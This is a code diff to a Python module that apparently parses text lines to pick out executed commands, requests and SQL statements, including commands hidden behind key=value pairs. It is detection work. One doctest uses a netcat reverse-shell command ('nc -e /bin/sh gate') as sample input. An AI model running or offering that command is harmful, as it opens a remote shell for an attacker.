@@ -94,7 +94,7 @@ _COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])([a-z_.-]{0,20}?(?:cmd|command
 
 
 class Held(NamedTuple):
-    """A command that was run, a request or a statement in SQL; a statement may have one of the others beside it, for whoever wrote either could hide the other so. is_firm: that one was run is told by its member's name, which is used for nothing else, or by
+    """A command that was run, a request or a statement in SQL; what stands before another is held beside it, for whoever wrote either could hide the other so. is_firm: that one was run is told by its member's name, which is used for nothing else, or by
     the name of the act beside it."""
 
     command: Optional[Bare] = None
@@ -320,14 +320,33 @@ def held_in_line(text: str) -> Optional[Held]:
     if command is not None:
         return Held(command)
     ran, asked, put = command_told(text) or command_free(text), request_told(text), statement_told(text) or statement_in_cells(text)
-    # What stands in another is a part of it.
-    if ran is not None and asked is not None:
-        ran, asked = (ran, None) if ran[0] < asked[0] else (None, asked)
-    first = ran or asked
-    if put is not None and (first is None or put[0] <= first[0]):
-        is_part = first is None or text.count("'", put[0], first[0]) % 2
-        return Held(None if is_part or ran is None else ran[1], None if is_part or asked is None else asked[1], statement=put[1])
-    if first is not None:
-        return Held(ran[1]) if ran is not None else Held(request=asked[1])  # type: ignore[index]
+    # A command in a request is a part of it. Words that tell a command may be a stranger's as well, and what the application itself wrote stands behind them.
+    if ran is not None and asked is not None and asked[0] <= ran[0]:
+        ran = None
+    statement = put[1] if put is not None and (asked is None or put[0] <= asked[0]) else ""
+    if put is not None and statement:
+        ran = None if ran is None or _is_in_text(text, put[0], ran[0]) else ran
+        asked = None if asked is None or _is_in_text(text, put[0], asked[0]) else asked
+    if ran is not None or asked is not None or statement:
+        return Held(ran[1] if ran is not None else None, asked[1] if asked is not None else None, statement=statement)
     command = _command(by_sign[":"]) or (prompted[1] if prompted is not None else None)
     return Held(command) if command is not None else None
+
+
+def ran_before_pairs(text: str) -> Optional[Held]:
+    """The command that a line tells before the first of its pairs, and the request behind it: whoever wrote one could hide it behind pairs of his own.
+
+    >>> ran_before_pairs("command queued for ann: nc -e /bin/sh gate a=1 b=2 c=3").command.programs, ran_before_pairs("a=1 b=2 command: nc -e /bin/sh gate")
+    (('nc',), None)
+    """
+    first = text.find("=")
+    ran = command_told(text) if first > 0 else None
+    if ran is None or ran[0] > first or is_repeated(text):
+        return None
+    asked = request_told(text)
+    return Held(ran[1], asked[1] if asked is not None and asked[0] > ran[0] else None)
+
+
+def _is_in_text(text: str, start: int, place: int) -> bool:
+    """Whether `place` stands in a text of the statement that begins at `start`."""
+    return place > start and text.count("'", start, place) % 2 == 1
